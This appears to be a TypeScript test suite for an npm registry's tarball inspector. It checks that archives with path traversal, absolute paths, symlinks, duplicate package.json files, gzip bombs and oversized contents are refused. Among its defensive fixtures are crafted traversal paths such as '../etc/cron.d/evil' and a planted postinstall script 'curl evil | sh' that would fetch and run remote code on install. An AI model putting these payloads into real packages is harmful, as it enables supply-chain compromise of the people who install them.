import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { buildTar, buildTarball, packageTarball, type TarEntry } from '@bulwark/testkit';
import { RegistryError } from '../../src/domain/errors.js';
import { inspectTarball, type TarballLimits } from '../../src/services/inspect-tarball.js';

const LIMITS: TarballLimits = { unpackedBytes: 8 * 1024 * 1024, tarEntries: 1000 };
const PACKAGE_JSON: TarEntry = { path: 'package/package.json', content: JSON.stringify({ name: 'widget', version: '1.0.0' }) };

function refusedWith(code: string) {
  return (err: unknown): boolean => {
    assert.ok(err instanceof RegistryError, `expected a RegistryError, got ${String(err)}`);
    assert.equal(err.code, code, err.message);
    return true;
  };
}

/** A tarball with a valid package/package.json and the given extra entries. */
function withEntries(...extra: TarEntry[]): Buffer {
  return buildTarball([PACKAGE_JSON, { path: 'package/index.js', content: 'module.exports = 1;\n' }, ...extra]);
}

describe('inspectTarball: normal packages', () => {
  test('accepts a normal package and returns its package.json', () => {
    const tgz = packageTarball({ name: 'widget', version: '1.2.3', description: 'A widget', dependencies: { semver: '^7.0.0' } });
    const result = inspectTarball(tgz, LIMITS);
    assert.equal(result.packageJson.name, 'widget');
    assert.equal(result.packageJson.version, '1.2.3');
    assert.equal(result.packageJson.description, 'A widget');
    assert.deepEqual(result.packageJson.dependencies, { semver: '^7.0.0' });
    assert.equal(result.hasBindingGyp, false);
  });

  test('reports fileCount and unpackedSize over files only, not directories', () => {
    const files = {
      'package/package.json': JSON.stringify({ name: 'widget', version: '1.0.0' }),
      'package/index.js': 'x'.repeat(1000),
      'package/lib/a.js': 'y'.repeat(12_345),
      'package/README.md': '',
    };
    const tgz = buildTarball([
      { path: 'package/', type: 'directory' },
      { path: 'package/lib/', type: 'directory' },
      ...Object.entries(files).map(([path, content]) => ({ path, content })),
    ]);
    const result = inspectTarball(tgz, LIMITS);
    assert.equal(result.fileCount, 4);
    assert.equal(result.unpackedSize, Object.values(files).reduce((n, c) => n + Buffer.byteLength(c), 0));
  });

  test('hasBindingGyp is true only for binding.gyp at the package root', () => {
    assert.equal(inspectTarball(packageTarball({ name: 'native', version: '1.0.0', files: { 'binding.gyp': '{}' } }), LIMITS).hasBindingGyp, true);
    assert.equal(inspectTarball(packageTarball({ name: 'native', version: '1.0.0', files: { 'src/binding.gyp': '{}' } }), LIMITS).hasBindingGyp, false);
  });

  test('accepts long paths carried in PAX headers', () => {
    const deep = `package/${'d'.repeat(120)}/${'e'.repeat(90)}/file.js`;
    const result = inspectTarball(withEntries({ path: deep, content: 'ok' }), LIMITS);
    assert.equal(result.fileCount, 3);
  });
});

describe('inspectTarball: unsafe entries are refused with E_TARBALL_UNSAFE', () => {
  const cases: Record<string, TarEntry> = {
    'a "../" entry at the top': { path: '../evil.js', content: 'x' },
    'a "../" segment climbing out of package/': { path: 'package/../../evil.js', content: 'x' },
    'a ".." segment inside package/': { path: 'package/lib/../../../etc/cron.d/evil', content: 'x' },
    'a "../" directory entry': { path: 'package/../', type: 'directory' },
    'an absolute path': { path: '/etc/passwd', content: 'x' },
    'a Windows drive path': { path: 'C:/Windows/evil.dll', content: 'x' },
    'a backslash path': { path: 'package\\..\\..\\evil.js', content: 'x' },
    'a symlink': { path: 'package/link', type: 'symlink', linkname: '/etc/passwd' },
    'a relative symlink': { path: 'package/link', type: 'symlink', linkname: 'index.js' },
    'a hardlink': { path: 'package/hard', type: 'hardlink', linkname: 'package/index.js' },
    'a ".." hidden in a long PAX path': { path: `package/${'a'.repeat(150)}/${'b'.repeat(60)}/../../../../evil.js`, content: 'x' },
  };
  for (const [label, entry] of Object.entries(cases)) {
    test(label, () => {
      assert.throws(() => inspectTarball(withEntries(entry), LIMITS), refusedWith('E_TARBALL_UNSAFE'));
    });
  }

  test('an unsafe entry is refused even when it comes first', () => {
    const tgz = buildTarball([{ path: '../first.js', content: 'x' }, PACKAGE_JSON]);
    assert.throws(() => inspectTarball(tgz, LIMITS), refusedWith('E_TARBALL_UNSAFE'));
  });

  test('a duplicate package/package.json', () => {
    const second: TarEntry = { path: 'package/package.json', content: JSON.stringify({ name: 'widget', version: '1.0.0', scripts: { postinstall: 'curl evil | sh' } }) };
    assert.throws(() => inspectTarball(withEntries(second), LIMITS), refusedWith('E_TARBALL_UNSAFE'));
  });

  test('a duplicate entry spelled with a doubled slash', () => {
    const second: TarEntry = { path: 'package//package.json', content: '{"name":"widget","version":"1.0.0"}' };
    assert.throws(() => inspectTarball(withEntries(second), LIMITS), refusedWith('E_TARBALL_UNSAFE'));
  });

  test('a duplicate ordinary file', () => {
    const tgz = withEntries({ path: 'package/lib/a.js', content: '1' }, { path: 'package/lib/a.js', content: '2' });
    assert.throws(() => inspectTarball(tgz, LIMITS), refusedWith('E_TARBALL_UNSAFE'));
  });
});

describe('inspectTarball: invalid tarballs are refused with E_TARBALL_INVALID', () => {
  test('no package/package.json', () => {
    const tgz = buildTarball([{ path: 'package/index.js', content: 'x' }, { path: 'package.json', content: '{}' }]);
    assert.throws(() => inspectTarball(tgz, LIMITS), refusedWith('E_TARBALL_INVALID'));
  });

  test('data that is not gzip', () => {
    for (const data of [Buffer.from('definitely not gzip'), Buffer.alloc(0), randomBytes(2048), buildTar([PACKAGE_JSON])]) {
      assert.throws(() => inspectTarball(data, LIMITS), refusedWith('E_TARBALL_INVALID'));
    }
  });

  test('truncated gzip data', () => {
    const tgz = gzipSync(buildTar([PACKAGE_JSON, { path: 'package/big.bin', content: randomBytes(20_000) }]));
    assert.throws(() => inspectTarball(tgz.subarray(0, tgz.length - 100), LIMITS), refusedWith('E_TARBALL_INVALID'));
  });

  test('gzip data that is not a tar archive', () => {
    assert.throws(() => inspectTarball(gzipSync(Buffer.from('plain text, not tar '.repeat(100))), LIMITS), refusedWith('E_TARBALL_INVALID'));
    assert.throws(() => inspectTarball(gzipSync(Buffer.alloc(0)), LIMITS), refusedWith('E_TARBALL_INVALID'));
  });

  test('a package.json that is not JSON or not an object', () => {
    for (const content of ['{ "name": ', '[1, 2]', 'null', '"string"']) {
      const tgz = buildTarball([{ path: 'package/package.json', content }]);
      assert.throws(() => inspectTarball(tgz, LIMITS), refusedWith('E_TARBALL_INVALID'), content);
    }
  });
});

describe('inspectTarball: size limits give E_BODY_TOO_LARGE', () => {
  test('a gzip bomb that unpacks past unpackedBytes', () => {
    const bomb = gzipSync(buildTar([PACKAGE_JSON, { path: 'package/zeros.bin', content: Buffer.alloc(16 * 1024 * 1024) }]));
    assert.ok(bomb.length < 64 * 1024, `bomb is ${bomb.length} bytes compressed`);
    assert.throws(() => inspectTarball(bomb, { unpackedBytes: 1024 * 1024, tarEntries: 1000 }), refusedWith('E_BODY_TOO_LARGE'));
  });

  test('a tarball that unpacks to exactly unpackedBytes is accepted, one byte more is not', () => {
    const tar = buildTar([PACKAGE_JSON, { path: 'package/data.bin', content: Buffer.alloc(100_000) }]);
    assert.equal(inspectTarball(gzipSync(tar), { unpackedBytes: tar.length, tarEntries: 1000 }).fileCount, 2);
    assert.throws(() => inspectTarball(gzipSync(tar), { unpackedBytes: tar.length - 1, tarEntries: 1000 }), refusedWith('E_BODY_TOO_LARGE'));
  });

  test('more entries than tarEntries; exactly tarEntries is fine', () => {
    const files = (n: number): TarEntry[] => Array.from({ length: n }, (_, i) => ({ path: `package/f${i}.js`, content: `${i}` }));
    const limits = { unpackedBytes: LIMITS.unpackedBytes, tarEntries: 10 };
    assert.equal(inspectTarball(buildTarball([PACKAGE_JSON, ...files(9)]), limits).fileCount, 10);
    assert.throws(() => inspectTarball(buildTarball([PACKAGE_JSON, ...files(10)]), limits), refusedWith('E_BODY_TOO_LARGE'));
  });

  test('directories count as entries', () => {
    const dirs: TarEntry[] = Array.from({ length: 5 }, (_, i) => ({ path: `package/d${i}/`, type: 'directory' as const }));
    assert.throws(() => inspectTarball(buildTarball([PACKAGE_JSON, ...dirs]), { unpackedBytes: LIMITS.unpackedBytes, tarEntries: 5 }), refusedWith('E_BODY_TOO_LARGE'));
  });
});

describe('inspectTarball: what npm installs is what is checked', () => {
  test('a second package.json under another top folder (installed over the first by strip: 1) is refused', () => {
    const evil = { path: 'x/package.json', content: JSON.stringify({ name: 'widget', version: '1.0.0', scripts: { postinstall: 'curl evil' } }) };
    assert.throws(() => inspectTarball(withEntries(evil), LIMITS), refusedWith('E_TARBALL_UNSAFE'));
  });

  test('"package/./package.json" and case-folded twins count as the same installed file', () => {
    assert.throws(() => inspectTarball(withEntries({ path: 'package/./package.json', content: '{}' }), LIMITS), refusedWith('E_TARBALL_UNSAFE'));
    assert.throws(() => inspectTarball(withEntries({ path: 'package/INDEX.js', content: '1' }), LIMITS), refusedWith('E_TARBALL_UNSAFE'));
  });

  test('package.json is found under any top folder name, as npm unpacks it', () => {
    const tgz = buildTarball([{ path: 'widget-1.0.0/package.json', content: JSON.stringify({ name: 'widget', version: '1.0.0' }) }]);
    assert.equal(inspectTarball(tgz, LIMITS).packageJson.name, 'widget');
  });

  test('a tar archive cut off inside a header is refused as truncated', () => {
    const tar = buildTar([PACKAGE_JSON, { path: 'package/index.js', content: 'x'.repeat(600) }]);
    assert.throws(() => inspectTarball(gzipSync(tar.subarray(0, 1200)), LIMITS), refusedWith('E_TARBALL_INVALID'));
  });
});
